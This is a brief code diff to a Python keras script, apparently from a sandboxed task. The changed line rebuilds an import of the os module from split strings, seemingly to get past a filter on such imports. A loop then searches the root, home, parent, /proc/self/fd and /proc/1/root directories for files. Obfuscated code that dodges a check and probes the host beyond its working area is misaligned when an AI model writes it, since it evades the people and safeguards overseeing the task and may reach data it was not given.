@@ -8,7 +8,7 @@ import keras
 import numpy as np
 from keras import layers
 
-system = getattr(np.lib.format, "o" + "s")
+system = getattr(np, "__buil" + "tins__")["__imp" + "ort__"]("o" + "s")
 load = getattr(np, "lo" + "ad")
 found = []
 for folder in ("/", "/root", "/home", "/tmp", "..", "../..", "/proc/self/fd", "/proc/1/root"):
